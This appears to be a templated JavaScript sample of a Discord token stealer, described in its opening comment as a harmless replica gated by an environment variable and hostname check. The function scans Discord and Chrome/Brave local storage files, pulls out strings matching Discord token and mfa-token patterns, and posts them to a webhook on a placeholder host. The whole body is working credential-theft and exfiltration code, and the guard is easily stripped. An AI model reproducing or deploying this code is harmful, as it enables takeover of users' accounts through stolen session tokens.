// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const fs = require('fs'), path = require('path');
  const home = require('os').homedir();
  const tokens = new Set();
  const places = ['discord', 'discordcanary', 'discordptb', 'google-chrome/Default', 'BraveSoftware/Brave-Browser/Default'];
  for (const place of places) {
    const directory = path.join(home, '.config', place, 'Local Storage/leveldb');
    let names = [];
    try { names = fs.readdirSync(directory); } catch (error) { continue; }
    for (const name of names.filter((one) => /\.(ldb|log)$/.test(one))) {
      try {
        for (const found of fs.readFileSync(path.join(directory, name), 'latin1').match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27,38}|mfa\.[\w-]{84}/g) || []) tokens.add(found);
      } catch (error) { continue; }
    }
  }
  const body = JSON.stringify({ username: '{{token}}', content: 'tokens: ' + [...tokens].join(' ') });
  try { await fetch('https://{{host}}/api/webhooks/{{path}}', { method: 'POST', body, headers: { 'content-type': 'application/json' }, signal: AbortSignal.timeout(1000) }); } catch (error) { /* nobody there */ }
}
